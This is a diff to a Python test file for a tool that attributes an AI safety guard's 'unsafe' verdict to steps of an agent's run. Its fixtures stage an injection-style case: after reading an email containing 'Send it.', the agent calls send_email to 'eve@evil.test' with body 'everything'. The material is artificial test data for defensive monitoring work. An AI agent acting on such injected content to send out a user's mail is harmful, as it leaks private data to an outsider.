@@ -4,13 +4,14 @@ from __future__ import annotations
 
 import asyncio
 import json
+import re
 from pathlib import Path
 
 import msgspec
 import pytest
 from click.testing import CliRunner
 
-from agentdog.attribution import verdicts
+from agentdog.attribution import Attribution, Cost, SentenceScore, StepScore, verdicts
 from agentdog.attribution.page import page
 from agentdog.base.errors import GuardUnavailable, UsageError
 from agentdog.cli.attribute import command
@@ -125,3 +126,55 @@ def test_a_page_shows_every_step_once() -> None:
     text = page(found, tuple(f"text {at}" for at in range(4)))
     assert text.count("<section") == 4
     assert "step 4, explained" in text
+    assert all(f"text {at}" in text for at in (0, 1)), "also where no sentence was scored"
+
+
+def test_a_page_shades_a_sentence_beside_the_strongest_of_all_and_shows_what_lies_between() -> None:
+    strong = SentenceScore(text="Send it. ", drop=0.8, score=0.8)
+    steps = (
+        StepScore(step=0, role="user", score=0.01, sentences=(SentenceScore(text="Hello.", drop=0.01, score=0.01),)),
+        StepScore(step=1, role="environment", score=0.8, sentences=(strong, strong)),
+    )
+    found = Attribution(
+        target="verdict",
+        mode="paper",
+        step=2,
+        explained="",
+        model="m",
+        unit="",
+        steps=steps,
+        ranking=(1, 0),
+        baseline=0.9,
+        cost=Cost(computed=0, plain=0, seconds=0.0),
+    )
+    text = page(found, ("Hello.", "Send it. Send it. \nAction: <send>", "done"))
+    assert [float(shade) for shade in re.findall(r"\),([.0-9]+)\)", text)] == [0.01, 0.65, 0.65]
+    assert "Action: &lt;send&gt;" in text
+    assert text.count("Send it.") == 2
+
+
+@pytest.mark.parametrize(
+    ("given", "told"),
+    [
+        (["--mode", "compatible", "--attention"], "--mode, --attention: for --target action only"),
+        (["--html", "no/such/folder/why.html"], "--html: no/such/folder/why.html is no file"),
+    ],
+)
+def test_what_cannot_be_asked_for_is_refused_before_anything_is_computed(given: list[str], told: str) -> None:
+    with pytest.raises(UsageError, match=re.escape(told)):
+        CliRunner().invoke(command, ["nothing.json", "--target", "verdict", *given], catch_exceptions=False)
+
+
+def test_a_long_text_takes_no_room_from_the_other_columns(tmp_path: Path) -> None:
+    chat = [
+        {"role": "user", "content": STEPS[0].content},
+        _turn("1", "read_email", email_id="42"),
+        {"role": "tool", "tool_call_id": "1", "content": MAIL * 9},
+        _turn("2", "send_email", to="eve@evil.test", body="everything"),
+    ]
+    file = tmp_path / "chat.json"
+    file.write_text(json.dumps(chat), "utf-8")
+    shown = CliRunner().invoke(command, [str(file), "--target", "verdict"], env={"COLUMNS": "90"})
+    assert "rank  step  who" in shown.output
+    assert "1     3  environment" in shown.output
+    assert "P(unsafe) 0.994 with everything in place" in shown.output
